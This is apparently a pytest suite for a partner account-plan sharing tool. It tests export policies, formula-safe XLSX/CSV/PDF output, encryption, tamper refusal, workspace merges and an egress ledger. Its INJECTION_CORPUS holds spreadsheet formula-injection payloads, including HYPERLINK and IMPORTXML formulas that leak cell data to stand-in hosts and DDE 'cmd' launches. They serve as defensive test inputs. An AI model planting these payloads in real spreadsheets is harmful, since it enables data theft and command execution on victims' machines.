"""Sharing: policy and preview, XLSX / CSV / PDF / .overlap-plan exports, encryption, the round
trip between two workspaces, and the egress ledger. (PSI is in test_psi.py.)"""

from __future__ import annotations

import csv
import hashlib
import json
import shutil
import sqlite3
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from engine import (
    DEFAULT_FIELDS,
    Cancelled,
    OverlapError,
    egress_ledger,
    export_egress_ledger,
    export_share,
    import_plan_file,
    plan_conflicts,
    read_plan_file,
    resolve_conflict,
    set_share_policy,
    share_policy,
    share_preview,
)
from engine.output.safe_cells import csv_safe
from engine.sharing import crypto
from tests.engine.sharing_helpers import add_plan, add_rules, mapped_workspace

INJECTION_CORPUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://x.example/?v=",A1),"//a")',
    "-",
    "+",
    "@",
    "=",
]


@pytest.fixture
def acme(tmp_path: Path):
    ws, partner_id, ours, theirs = mapped_workspace(tmp_path / "acme")
    add_rules(ws, partner_id)
    add_plan(
        ws,
        partner_id,
        ours.iloc[0],
        theirs.iloc[0],
        objective="Expand Initech to the EU region",
        notes="private: budget is tight",
        steps=[
            {
                "what": "Intro call",
                "owner_party": "us",
                "owner_person": "Ann",
                "due_date": "2026-12-01",
            },
            {"what": "Pricing workshop", "owner_party": "partner", "due_date": "2026-12-15"},
        ],
        metrics=[{"name": "Pipeline", "target": 100000.0, "actual": 20000.0, "unit": "USD"}],
        roles=[{"party": "us", "person": "Ann", "role": "AE", "responsibility": "Owns the deal"}],
    )
    add_plan(
        ws, partner_id, ours.iloc[1], theirs.iloc[1], objective="Land Umbrella", lead="partner"
    )
    yield ws
    ws.close()


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    workbook = openpyxl.load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _xlsx_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.endswith(".xml")
        )


# ---------------------------------------------------------------------------- policy and preview


def test_default_policy_is_minimal(acme) -> None:
    policy = share_policy(acme, "Globex")
    assert (
        policy.fields == DEFAULT_FIELDS == ["account_name", "domain", "lead", "plan", "next_steps"]
    )
    assert not policy.counts_only
    package = share_preview(acme, "Globex")
    columns = set(package.plans.columns)
    assert {"Account", "Domain", "Lead", "Objective", "Status"} <= columns
    assert not columns & {"Annual revenue", "Account owner", "Notes", "Our stage"}
    text = json.dumps(package.plan_items) + package.plans.to_csv()
    assert "ann@acme.com" not in text and "budget is tight" not in text and "5000000" not in text
    described = package.describe()
    assert described["rows"] == {"plans": 2, "next_steps": 2, "metrics": 1, "roles": 1}
    assert described["counts"]["shared_accounts"] == 3


def test_policy_changes_what_leaves(acme) -> None:
    set_share_policy(acme, "Globex", fields=[*DEFAULT_FIELDS, "annual_revenue", "owner", "notes"])
    package = share_preview(acme, "Globex")
    assert {"Annual revenue", "Account owner", "Notes"} <= set(package.plans.columns)
    assert package.plans.loc[0, "Account owner"] == "ann@acme.com"
    set_share_policy(acme, "Globex", fields=["lead", "next_steps"])
    package = share_preview(acme, "Globex")
    assert "Account" not in package.plans.columns and "Objective" not in package.plans.columns
    # Unnamed accounts are called by the plan's reference, the one both sides see.
    first = str(package.plans.loc[0, "Plan"])
    assert first.startswith("P-") and set(package.steps["Account"]) == {f"Account {first}"}
    assert any("numbered only" in w for w in package.warnings)
    with pytest.raises(OverlapError, match="unknown share field"):
        set_share_policy(acme, "Globex", fields=["password"])


def test_counts_only_has_no_names_and_warns_on_small_cells(acme, tmp_path: Path) -> None:
    set_share_policy(acme, "Globex", counts_only=True)
    package = share_preview(acme, "Globex")
    assert package.plans.empty and package.plan_items == []
    assert package.small_cells() == [
        ("prospect", "customer", 1),
        ("customer", "prospect", 1),
        ("customer", "customer", 1),
    ]
    assert any("fewer than 3" in w for w in package.warnings)
    names = ["Initech", "Umbrella", "Hooli", "initech.com", "umbrella.com", "Ann"]
    for suffix in ("xlsx", "csv", "overlap-plan"):
        path = tmp_path / f"counts.{suffix}"
        export_share(acme, "Globex", path)
        text = _xlsx_xml(path) if suffix == "xlsx" else path.read_text(encoding="utf-8-sig")
        assert not any(name in text for name in names), suffix
    document = read_plan_file(tmp_path / "counts.overlap-plan")
    assert document.counts_only and document.plans == []
    assert document.matrix["customer"]["customer"] == 1


# ---------------------------------------------------------------------------- XLSX, CSV, PDF


def test_xlsx_layout(acme, tmp_path: Path) -> None:
    # The default policy keeps our stage and the rules at home: neither sheet leaves.
    minimal = tmp_path / "minimal.xlsx"
    export_share(acme, "Globex", minimal)
    assert openpyxl.load_workbook(minimal).sheetnames == [
        "Summary",
        "Plans",
        "Next steps",
        "Metrics",
        "Roles",
    ]
    set_share_policy(acme, "Globex", fields=[*DEFAULT_FIELDS, "stage", "lead_rationale"])
    path = tmp_path / "plans.xlsx"
    result = export_share(acme, "Globex", path)
    assert result.kind == "xlsx" and path.is_file() and not (tmp_path / "plans.xlsx.part").exists()
    workbook = openpyxl.load_workbook(path)
    assert workbook.sheetnames == [
        "Summary",
        "Overlap by stage",
        "Rules",
        "Plans",
        "Next steps",
        "Metrics",
        "Roles",
    ]
    summary = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True) if row[0]}
    assert summary["Partnership"] == "Acme Corp and Globex"
    assert summary["Model"] == "co-sell"
    assert summary["Rules of engagement"] == "version 2"
    assert summary["Plans"] == 2 and summary["Shared accounts"] == 3
    plans = workbook["Plans"]
    assert [c.value for c in plans[1]][:4] == ["Plan", "Account", "Domain", "Our stage"]
    assert str(plans["A2"].value).startswith("P-")  # the reference both sides see
    assert plans.freeze_panes == "A2"
    assert plans.auto_filter.ref is not None and plans.auto_filter.ref.startswith("A1:")
    assert plans["A1"].font.b
    assert plans.column_dimensions["B"].width >= len("Umbrella Corp")
    steps = workbook["Next steps"]
    assert [c.value for c in steps[2]][2:4] == ["Intro call", "Acme Corp"]
    metrics = workbook["Metrics"]
    assert metrics["D2"].value == 100000 and metrics["D2"].data_type == "n"


def test_formula_injection_corpus_stays_text(tmp_path: Path) -> None:
    ws, partner_id, _ours, _theirs = mapped_workspace(tmp_path / "inj")
    for index, bad in enumerate(INJECTION_CORPUS):
        add_plan(
            ws,
            partner_id,
            {"external_id": f"X-{index}", "name": bad, "domains": ""},
            {"external_id": f"Y-{index}", "name": bad, "domains": ""},
            objective=bad,
            steps=[{"what": bad + " step", "owner_party": "us", "owner_person": bad}],
            roles=[{"party": "partner", "person": bad, "role": bad, "responsibility": bad}],
        )
    xlsx, csv_path = tmp_path / "inj.xlsx", tmp_path / "inj.csv"
    export_share(ws, "Globex", xlsx)
    export_share(ws, "Globex", csv_path)
    ws.close()

    xml = _xlsx_xml(xlsx)
    assert "<f>" not in xml and "<f " not in xml
    cells = _cells(xlsx)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for bad in INJECTION_CORPUS:
        if bad.strip():
            # stored as the exact text (openpyxl reads strings starting with "=" back as text too)
            assert any(bad.strip() in t for t in texts), bad

    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    account = header.index("Account")
    objective = header.index("Objective")
    for row in body:
        for value in (row[account], row[objective]):
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert value.startswith("'")
    assert sorted(r[account] for r in body) == sorted("'" + b for b in INJECTION_CORPUS)


@pytest.mark.parametrize("value", INJECTION_CORPUS)
def test_csv_safe_prefixes_every_formula_start(value: str) -> None:
    assert csv_safe(value) == "'" + value
    assert csv_safe("Acme = best") == "Acme = best"
    assert csv_safe(-5) == "'-5"  # a negative number is text in a shared CSV, never a formula


def test_pdf_report(acme, tmp_path: Path) -> None:
    set_share_policy(acme, "Globex", fields=[*DEFAULT_FIELDS, "stage", "lead_rationale"])
    path = tmp_path / "plans.pdf"
    export_share(acme, "Globex", path)
    assert path.read_bytes().startswith(b"%PDF")
    if shutil.which("pdftotext") is None:
        pytest.skip("poppler-utils is not installed")
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    for expected in (
        "Joint account plans",
        "Rules of engagement",
        "Stronger relationship",
        "Now: Acme Corp leads",
        "Initech (P-",
        "Expand Initech to the EU region",
        "Pricing workshop",
        "Pipeline",
        "Umbrella Corp (P-",
    ):
        assert expected in text, expected
    refs = list(acme.read_frame("SELECT ref FROM plan ORDER BY account_name")["ref"])
    assert all(ref in text for ref in refs)
    assert (
        "budget is tight" not in text and "ann@acme.com" not in text and "nan" not in text.split()
    )


def test_export_refusals_and_cancel(acme, tmp_path: Path) -> None:
    with pytest.raises(OverlapError, match=r"only \.overlap-plan"):
        export_share(acme, "Globex", tmp_path / "x.xlsx", passphrase="long enough passphrase")
    with pytest.raises(OverlapError, match="choose a file"):
        export_share(acme, "Globex", tmp_path / "x.docx")
    with pytest.raises(Cancelled):
        export_share(acme, "Globex", tmp_path / "c.xlsx", cancel=lambda: True)
    assert not list(tmp_path.glob("c.xlsx*"))
    assert egress_ledger(acme).empty


# ---------------------------------------------------------------------------- encryption


def test_crypto_round_trip_and_refusals() -> None:
    blob = crypto.encrypt(b"plans", "correct horse battery")
    assert crypto.decrypt(blob, "correct horse battery") == b"plans"
    assert b"plans" not in blob
    with pytest.raises(OverlapError, match="passphrase is wrong"):
        crypto.decrypt(blob, "correct horse batterY")
    for position in (0, 9, 13, 25, len(blob) // 2, len(blob) - 1):
        flipped = bytearray(blob)
        flipped[position] ^= 0x01
        with pytest.raises(OverlapError):
            crypto.decrypt(bytes(flipped), "correct horse battery")
    for cut in (5, 40, len(blob) - 1):
        with pytest.raises(OverlapError):
            crypto.decrypt(blob[:cut], "correct horse battery")
    with pytest.raises(OverlapError, match="at least 8"):
        crypto.encrypt(b"x", "short")


def _table_digest(path: Path) -> str:
    """A digest of every table of a workspace (to prove an import changed nothing)."""
    with sqlite3.connect(path) as con:
        tables = [
            r[0]
            for r in con.execute("SELECT name FROM sqlite_master WHERE type='table' ORDER BY name")
        ]
        digest = hashlib.sha256()
        for table in tables:
            for row in con.execute(f'SELECT * FROM "{table}" ORDER BY 1'):
                digest.update(repr(row).encode())
    return digest.hexdigest()


def _account_digest(path: Path) -> str:
    with sqlite3.connect(path) as con:
        return hashlib.sha256(
            repr(
                con.execute(
                    "SELECT snapshot_id, part, rows, data FROM accountblock ORDER BY id"
                ).fetchall()
            ).encode()
        ).hexdigest()


def test_encrypted_plan_file_refuses_damage_and_imports_nothing(acme, tmp_path: Path) -> None:
    path = tmp_path / "plans.overlap-plan"
    result = export_share(acme, "Globex", path, passphrase="correct horse battery")
    assert result.encrypted and crypto.is_encrypted(path.read_bytes())
    ws_b, _pid, _o, _t = mapped_workspace(tmp_path / "globex", "Globex", "Acme Corp", mirror=True)
    try:
        before = _table_digest(ws_b.path)
        blob = path.read_bytes()
        broken = {
            "wrong": (blob, "wrong horse battery"),
            "flipped": (blob[:60] + bytes([blob[60] ^ 0x80]) + blob[61:], "correct horse battery"),
            "truncated": (blob[: len(blob) - 20], "correct horse battery"),
        }
        for name, (data, passphrase) in broken.items():
            damaged = tmp_path / f"{name}.overlap-plan"
            damaged.write_bytes(data)
            with pytest.raises(OverlapError, match="nothing was imported"):
                import_plan_file(ws_b, "Acme Corp", damaged, passphrase=passphrase)
        with pytest.raises(OverlapError, match="encrypted"):
            import_plan_file(ws_b, "Acme Corp", path)
        assert _table_digest(ws_b.path) == before
        merged = import_plan_file(ws_b, "Acme Corp", path, passphrase="correct horse battery")
        assert merged.created == 2
    finally:
        ws_b.close()


def test_plain_plan_file_tampering_is_refused(acme, tmp_path: Path) -> None:
    path = tmp_path / "plans.overlap-plan"
    export_share(acme, "Globex", path)
    document = json.loads(path.read_text(encoding="utf-8"))
    assert document["format"] == "overlap-plan" and document["schema_version"] == 1
    assert document["sender"] == {"company": "Acme Corp"} and document["partnership_id"]
    assert "id:A-1" not in path.read_text(encoding="utf-8")  # our account keys never leave
    document["content"]["plans"][0]["objective"] = "changed on the way"
    path.write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises(OverlapError, match="changed after it was written"):
        read_plan_file(path)
    path.write_bytes(path.read_bytes()[:100])
    with pytest.raises(OverlapError, match="cut short"):
        read_plan_file(path)


# ---------------------------------------------------------------------------- round trip


def _plan(ws, partner: str, account: str) -> dict:
    frame = ws.read_frame("SELECT * FROM plan WHERE account_name = :a", {"a": account})
    plan = frame.iloc[0].to_dict()
    plan["steps"] = ws.read_frame(
        "SELECT * FROM planstep WHERE plan_id = :p ORDER BY id", {"p": plan["id"]}
    )
    return plan


def test_round_trip_between_two_workspaces(acme, tmp_path: Path) -> None:
    a = acme
    a_accounts = _account_digest(a.path)
    # A exports.
    first = tmp_path / "a1.overlap-plan"
    export_share(a, "Globex", first)

    # B imports: both plans land on B's shared accounts, seen from B's side.
    b, _pid, _o, _t = mapped_workspace(tmp_path / "globex", "Globex", "Acme Corp", mirror=True)
    try:
        b_accounts = _account_digest(b.path)
        result = import_plan_file(b, "Acme Corp", first)
        assert (result.matched, result.created, result.conflicts, result.unmatched) == (
            2,
            2,
            [],
            [],
        )
        initech = _plan(b, "Acme Corp", "Initech Inc")  # B's own name for the account
        assert initech["lead"] == "partner"  # Acme leads, and Acme is B's partner
        assert initech["objective"] == "Expand Initech to the EU region"
        assert list(initech["steps"]["what"]) == ["Intro call", "Pricing workshop"]
        assert list(initech["steps"]["owner_party"]) == ["partner", "us"]

        # Importing the same file twice changes nothing.
        before = _table_digest(b.path)
        again = import_plan_file(b, "Acme Corp", first)
        assert again.already_imported and not again.changed
        assert _table_digest(b.path) == before

        # B edits: marks A's step done, adds a step, changes the objective.
        with b.session() as session:
            from engine.store.models import Plan, PlanStep

            plan = session.get(Plan, int(initech["id"]))
            plan.objective = "Expand Initech to the EU and the UK"
            session.add(plan)
            step = session.get(PlanStep, int(initech["steps"]["id"].iloc[0]))
            step.done = True
            session.add(step)
            session.add(
                PlanStep(
                    plan_id=plan.id,
                    what="Joint demo",
                    owner_party="us",
                    owner_person="Gil",
                    due_date="2027-01-10",
                )
            )
            session.commit()
        back = tmp_path / "b1.overlap-plan"
        export_share(b, "Acme Corp", back)
        assert _account_digest(b.path) == b_accounts
    finally:
        b.close()

    # Meanwhile A changed the same objective: one conflict, everything else merges.
    with a.session() as session:
        from engine.store.models import Plan

        plan_id = int(_plan(a, "Globex", "Initech")["id"])
        plan = session.get(Plan, plan_id)
        plan.objective = "Expand Initech to the EU, start with Germany"
        session.add(plan)
        session.commit()
    merged = import_plan_file(a, "Globex", back)
    assert merged.matched == 2 and merged.created == 0
    assert len(merged.conflicts) == 1
    conflict = merged.conflicts[0]
    assert (conflict["item"], conflict["field"]) == ("plan", "objective")
    assert conflict["ours"] == "Expand Initech to the EU, start with Germany"
    assert conflict["theirs"] == "Expand Initech to the EU and the UK"
    initech = _plan(a, "Globex", "Initech")
    assert initech["objective"] == "Expand Initech to the EU, start with Germany"  # until resolved
    steps = initech["steps"].set_index("what")
    assert bool(steps.loc["Intro call", "done"])  # B's change, taken
    assert steps.loc["Joint demo", "owner_party"] == "partner"  # B's new step, B's side
    assert _account_digest(a.path) == a_accounts

    # Merging the same file again changes nothing, and asks nothing new.
    before = _table_digest(a.path)
    assert not import_plan_file(a, "Globex", back).changed
    assert _table_digest(a.path) == before

    open_conflicts = plan_conflicts(a, "Globex")
    assert len(open_conflicts) == 1
    resolve_conflict(a, int(open_conflicts["id"].iloc[0]), "theirs")
    assert _plan(a, "Globex", "Initech")["objective"] == "Expand Initech to the EU and the UK"
    assert plan_conflicts(a, "Globex").empty
    with pytest.raises(OverlapError, match="resolved already"):
        resolve_conflict(a, int(open_conflicts["id"].iloc[0]), "ours")


def test_plan_for_an_account_our_matcher_did_not_link_is_placed_by_crm_id(
    acme, tmp_path: Path
) -> None:
    path = tmp_path / "a.overlap-plan"
    export_share(acme, "Globex", path)
    b, _pid, _o, _t = mapped_workspace(tmp_path / "globex", "Globex", "Acme Corp", mirror=True)
    try:
        b.read_frame("SELECT 1")
        with b.transaction() as connection:
            connection.exec_driver_sql("UPDATE match SET status = 'rejected' WHERE id = 2")
        result = import_plan_file(b, "Acme Corp", path)
        assert result.created == 2 and result.unmatched == [] and result.unplaced == []
        umbrella = b.read_frame("SELECT * FROM plan WHERE account_name = 'Umbrella'").iloc[0]
        # B's own account by B's CRM id; the partner's account by Acme's CRM id.
        assert (umbrella["our_key"], umbrella["partner_key"]) == ("id:G-2", "id:A-2")
    finally:
        b.close()


# ---------------------------------------------------------------------------- ledger


def test_ledger_records_every_export(acme, tmp_path: Path) -> None:
    for name in ("p.xlsx", "p.pdf", "p.csv", "p.overlap-plan"):
        export_share(acme, "Globex", tmp_path / name)
    export_share(acme, "Globex", tmp_path / "e.overlap-plan", passphrase="correct horse battery")
    frame = egress_ledger(acme, "Globex")
    assert list(frame["kind"]) == ["xlsx", "pdf", "csv", "plan", "plan"]
    assert list(frame["encrypted"]) == [False, False, False, False, True]
    for row in frame.itertuples():
        assert row.sha256 == hashlib.sha256(Path(row.path).read_bytes()).hexdigest()
        assert row.partner == "Globex"
        assert row.fields == "account_name, domain, lead, plan, next_steps"
    assert list(frame["row_count"]) == [4, 2, 2, 2, 2]
    out = export_egress_ledger(acme, tmp_path / "ledger.csv")
    exported = pd.read_csv(out, encoding="utf-8-sig")
    assert len(exported) == 5
    assert egress_ledger(acme)["kind"].iloc[-1] == "ledger"
    export_egress_ledger(acme, tmp_path / "ledger.xlsx")
    assert not [c for c in _cells(tmp_path / "ledger.xlsx") if c.data_type == "f"]


# ---------------------------------------------------------------------------- command line


def test_command_line_round_trip(acme, tmp_path: Path, capsys, monkeypatch) -> None:
    from engine.cli import main

    path = acme.path
    acme.close()  # the commands open the workspace themselves
    b, _pid, _o, _t = mapped_workspace(tmp_path / "globex", "Globex", "Acme Corp", mirror=True)
    b_path = b.path
    b.close()
    monkeypatch.setenv("PLAN_PASSPHRASE", "correct horse battery")

    assert main(["share", "policy", str(path), "--partner", "Globex", "--allow", "stage"]) == 0
    assert "[x] stage" in capsys.readouterr().out
    assert main(["share", "preview", str(path), "--partner", "Globex", "--format", "json"]) == 0
    preview = json.loads(capsys.readouterr().out)
    assert (
        preview["rows"]["plans"] == 2
        and "Our stage (prospect / customer / churned)" in preview["fields"]
    )
    out = tmp_path / "cli.overlap-plan"
    args = ["share", "export", str(path), "--partner", "Globex", "--out", str(out)]
    # No file naming accounts leaves before the data-sharing agreement is recorded.
    assert main([*args, "--passphrase-env", "PLAN_PASSPHRASE"]) == 2
    assert "record the data-sharing agreement" in capsys.readouterr().err and not out.exists()
    agreement = ["share", "agreement", str(path), "--partner", "Globex"]
    assert main([*agreement, "--signed", "2026-11-30"]) == 2
    assert "scope or its reference" in capsys.readouterr().err
    assert main([*agreement, "--signed", "2026-11-30", "--reference", "DSA-114"]) == 0
    assert "DSA-114" in capsys.readouterr().out
    assert main([*args, "--passphrase-env", "PLAN_PASSPHRASE"]) == 0
    assert "(encrypted)" in capsys.readouterr().out
    assert (
        main(["plan-file", "import", str(b_path), "--partner", "Acme Corp", "--in", str(out)]) == 2
    )
    assert "encrypted" in capsys.readouterr().err
    imp = ["plan-file", "import", str(b_path), "--partner", "Acme Corp", "--in", str(out)]
    assert main([*imp, "--passphrase-env", "PLAN_PASSPHRASE"]) == 0
    assert "2 new" in capsys.readouterr().out
    conflicts = ["plan-file", "conflicts", str(b_path), "--partner", "Acme Corp", "--format", "csv"]
    assert main(conflicts) == 0

    assert (
        main(["psi", "request", str(path), "--partner", "Globex", "--out", str(tmp_path / "r")])
        == 0
    )
    assert main(["share", "agreement", str(b_path), "--partner", "Acme Corp", "--none"]) == 0
    assert "none (confirmed" in capsys.readouterr().out
    respond = ["psi", "respond", str(b_path), "--partner", "Acme Corp", "--in", str(tmp_path / "r")]
    assert main([*respond, "--out", str(tmp_path / "s")]) == 0
    finish = ["psi", "finish", str(path), "--partner", "Globex", "--in", str(tmp_path / "s")]
    capsys.readouterr()
    assert main([*finish, "--format", "csv"]) == 0
    shared = capsys.readouterr().out
    assert "Initech" in shared and "Vandelay" not in shared
    assert main(["ledger", str(path), "--format", "csv"]) == 0
    ledger_csv = capsys.readouterr().out
    assert ",plan," in ledger_csv and ",psi-request," in ledger_csv
    assert "agreement: signed 2026-11-30; DSA-114" in ledger_csv
    assert main(["ledger", str(path), "--out", str(tmp_path / "ledger.xlsx")]) == 0
    assert main(["share", "export", str(path), "--partner", "Nobody", "--out", str(out)]) == 2
    assert "no partner named" in capsys.readouterr().err


def test_export_table_is_formula_safe_and_recorded(acme, tmp_path: Path) -> None:
    from engine import export_table

    frame = pd.DataFrame({"name": INJECTION_CORPUS, "revenue": range(len(INJECTION_CORPUS))})
    xlsx = export_table(frame, tmp_path / "list.xlsx", ws=acme, partner="Globex")
    csv_path = export_table(frame, tmp_path / "list.csv")
    assert "<f>" not in _xlsx_xml(xlsx)
    assert not [c for c in _cells(xlsx) if c.data_type == "f"]
    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
        names = [row[0] for row in csv.reader(handle)][1:]
    assert names == ["'" + v for v in INJECTION_CORPUS]
    assert list(egress_ledger(acme)["kind"]) == ["list"]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_workbook_and_evaluates_no_formula(tmp_path: Path) -> None:
    ws, partner_id, _ours, _theirs = mapped_workspace(tmp_path / "inj")
    for index, bad in enumerate(INJECTION_CORPUS[:9]):
        add_plan(
            ws,
            partner_id,
            {"external_id": f"X-{index}", "name": f"Account {index}", "domains": ""},
            {"external_id": f"Y-{index}", "name": f"Account {index}", "domains": ""},
            objective=bad,
        )
    export_share(ws, "Globex", tmp_path / "inj.xlsx")
    ws.close()
    out = tmp_path / "lo"
    # Sheet -1: every sheet to its own CSV; UTF-8 (76); comma-separated, double-quoted.
    subprocess.run(
        [
            "soffice",
            "--headless",
            "--norestore",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
            str(out),
            str(tmp_path / "inj.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    with open(out / "inj-Plans.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    objective = rows[0].index("Objective")
    shown = sorted(row[objective] for row in rows[1:])
    assert shown == sorted(INJECTION_CORPUS[:9])  # text as written: nothing was evaluated
    assert (out / "inj-Summary.csv").is_file() and (out / "inj-Next steps.csv").is_file()


def test_preview_warns_when_free_text_mentions_amounts(acme) -> None:
    assert share_preview(acme, "Globex").warnings == []
    from engine.store.models import Plan

    with acme.session() as session:
        plan = session.get(Plan, 1)
        plan.objective = "Potential 94,994,977 (annual revenue): land it in Q1"
        session.add(plan)
        session.commit()
    warnings = share_preview(acme, "Globex").warnings
    assert len(warnings) == 1 and warnings[0].startswith(
        "1 objective(s) or step(s) mention amounts"
    )
    set_share_policy(acme, "Globex", fields=[*DEFAULT_FIELDS, "annual_revenue"])
    assert share_preview(acme, "Globex").warnings == []
